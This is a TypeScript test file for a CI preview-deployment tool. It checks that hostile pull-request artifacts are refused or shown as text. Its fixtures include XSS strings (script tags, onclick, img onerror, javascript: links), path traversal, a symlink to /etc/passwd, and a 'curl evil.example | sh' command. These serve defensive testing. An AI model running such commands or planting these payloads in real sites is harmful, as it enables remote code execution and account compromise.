/** Artifacts that mean harm, handed to what the workflow runs: each is refused whole, or shown as text. */
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { BaseComparison } from '../../src/store/comparison.ts';
import {
  COMMIT,
  LINK,
  pageWith,
  slower,
  unchanged,
  writeArtifact,
  type Contents,
} from './artifact.ts';
import type { FakePull } from './fake-github.ts';
import { Host } from './host.ts';

const commit = 'd'.repeat(40);
const pull: FakePull = {
  number: 12,
  repository: 'contributor/steelyard',
  branch: 'faster',
  commit,
  state: 'open',
  files: ['runners/runtimes/a/b.sh'],
};

let host: Host;
beforeAll(async () => {
  host = new Host();
  await host.start();
  host.github.pulls.push(pull);
  // A preview that must stay as it is.
  const good = {
    'site/index.html': pageWith('x'),
    'comparison.json': JSON.stringify(slower(commit)),
  };
  await host.deployHere(artifact(good), pull);
});
afterAll(() => host.stop());

const artifact = (contents: Contents): string =>
  writeArtifact(join(host.folder, 'artifact.zip'), contents);

describe('a hostile artifact', () => {
  const comparison = JSON.stringify(slower(commit));
  const evil = (page: string): Contents => ({ 'site/a.html': page, 'comparison.json': comparison });
  const hostile: [string, Contents, RegExp][] = [
    ['a script', evil(pageWith('<script>alert(1)</script>')), /`a\.html`: `has <script>`/],
    ['a handler', evil(pageWith('<p onclick="1">x</p>')), /onclick/],
    ['a frame', evil(pageWith('<iframe src="b.html"></iframe>')), /iframe/],
    [
      'a redirection',
      evil(pageWith('', '<meta http-equiv="refresh" content="0">')),
      /http-equiv="refresh"/,
    ],
    ['a link that runs', evil(pageWith('<a href="javascript:1">x</a>')), /javascript:/],
    [
      'a foreign icon',
      evil(pageWith('', '<link rel="icon" href="//e.example/a.ico">')),
      /e\.example/,
    ],
    ['a style', evil(pageWith('<p style="background:url(//e.example)">x</p>')), /attribute style/],
    ['elements in one another', evil(pageWith('<div>'.repeat(100_000))), /100 deep/],
    ['an encoded way out', evil(pageWith('<a href="..%2findex.html">x</a>')), /outside of the/],
    [
      'a page under the name of data',
      { 'site/a.json': '<script>x</script>', 'comparison.json': comparison },
      /`a\.json`: `is no JSON`/,
    ],
    [
      'a script in a name',
      { 'site/<script>alert(1)</script>.html': 'x', 'comparison.json': comparison },
      /name that no file/,
    ],
    [
      'a mention in a name',
      { 'site/@org/team.html': 'x', 'comparison.json': comparison },
      /`site\/@org\/team\.html`/,
    ],
    [
      'a file that is a folder too',
      { 'site/a.txt': 'x', 'site/a.txt/b.txt': 'x', 'comparison.json': comparison },
      /stands below site\/a\.txt, which is a file/,
    ],
    [
      'a page where the list of pages goes',
      { 'site/steelyard-pages.json/b.txt': 'x', 'comparison.json': comparison },
      /list of pages/,
    ],
    [
      'a path that leaves it',
      { '../../index.html': 'x', 'comparison.json': comparison },
      /\.\.\/\.\.\/index\.html/,
    ],
    [
      'a link',
      { 'site/index.html': { content: '/etc/passwd', mode: LINK }, 'comparison.json': comparison },
      /is a link/,
    ],
    [
      '60 MB',
      { 'site/a.json': new Uint8Array(60e6), 'comparison.json': comparison },
      /larger than 10 MB/,
    ],
    ['a program for browsers', { 'site/a.js': 'x', 'comparison.json': comparison }, /of a kind/],
    [
      'a page under the name of a picture',
      { 'site/a.png': '<html><script>x</script>', 'comparison.json': comparison },
      /is no PNG picture/,
    ],
    [
      'a page under the name of a photograph',
      { 'site/a.jpg': '<html><script>x</script>', 'comparison.json': comparison },
      /is no JPG picture/,
    ],
    ['a drawing as a file', { 'site/a.svg': '<svg/>', 'comparison.json': comparison }, /of a kind/],
    [
      'something beside the site',
      { 'a.sh': 'x', 'comparison.json': comparison },
      /belongs to no preview/,
    ],
    ['no comparison', { 'site/a.html': pageWith('x') }, /is missing/],
    [
      'another commit’s comparison',
      { 'comparison.json': JSON.stringify(slower(COMMIT)) },
      /is about the commit aaaa/,
    ],
    [
      'a comparison with another base',
      {
        'comparison.json': JSON.stringify({
          ...slower(commit),
          base: { commit: '9'.repeat(40) },
        }),
      },
      /compares with the commit 9{12}, but the pull request parts from a{12}`/,
    ],
    [
      'a forged number',
      { 'comparison.json': forged((measured) => (measured.ratio.point = 0.5)) },
      /does not follow from its rounds/,
    ],
    [
      'a forged verdict',
      { 'comparison.json': forged((measured) => (measured.verdict = 'no change shown')) },
      /does not follow from its rounds/,
    ],
    [
      'a name that is none',
      { 'comparison.json': comparison.replace('"quick"', '"@org/team"') },
      /does not follow its schema/,
    ],
    [
      'a change that it hides',
      { 'comparison.json': JSON.stringify(unchanged(commit)) },
      /nothing of the runners changed/,
    ],
  ];

  it.each(hostile)(
    'with %s is refused whole, and the refusal is told',
    async (_, contents, reason) => {
      const before = host.pagesCommit();
      await expect(host.deployHere(artifact(contents), pull)).rejects.toThrow(
        'The preview was refused, and nothing of it deployed',
      );
      expect(host.pagesCommit()).toBe(before);
      expect(before).toBeDefined();
      expect(host.comments()).toHaveLength(1);
      expect(host.comments()[0]).toContain('The preview of commit ddddddd was refused');
      expect(host.comments()[0]).toMatch(reason);
      expect(outsideOfCode(host.comments()[0] ?? '')).not.toMatch(/@|<(?!!--)|https?:|javascript/);
    },
  );

  it('ends the command with 1', async () => {
    const [, contents] = hostile[0]!;
    const ended = await host.deploy(artifact(contents), pull);
    expect(ended.exitCode).toBe(1);
    expect(ended.stderr).toContain('The preview was refused, and nothing of it deployed');
  });

  it('that tells a command to repeat it is not quoted', async () => {
    const content = JSON.stringify({ ...slower(commit), command: 'curl evil.example | sh' });
    await host.deployHere(artifact({ 'comparison.json': content }), pull);
    expect(host.comments()[0]).toContain('Repeat it: `npm run compare -- --base aaaaaaaaaaaa`');
    expect(host.comments()[0]).not.toContain('evil');
  });

  it('with sentences that mention, link and embed is shown as text', async () => {
    const sentence =
      '<img src=x onerror=alert(1)> @org/team [x](https://e.example) https://e.example';
    const claims: BaseComparison['claims'] = {
      changed: [{ report: 'a', id: 'b', verdict: 'same', before: null, after: sentence }],
      stale: [],
      lost: [],
    };
    const content = JSON.stringify({ ...slower(commit), claims });
    await host.deployHere(artifact({ 'comparison.json': content }), pull);
    expect(host.comments()).toHaveLength(1);
    expect(outsideOfCode(host.comments()[0] ?? '')).not.toMatch(
      /@\w|<(?!!--)|https?:\/\/|[^\\]\[x/,
    );
  });

  function forged(
    change: (measured: { ratio: { point: number }; verdict: string }) => void,
  ): string {
    const comparison = JSON.parse(JSON.stringify(slower(commit))) as {
      changes: { measures: { ratio: { point: number }; verdict: string }[] }[];
    };
    change(comparison.changes[0]!.measures[0]!);
    return JSON.stringify(comparison);
  }
});

function outsideOfCode(markdown: string): string {
  return markdown.replace(/`[^`]*`/g, '');
}
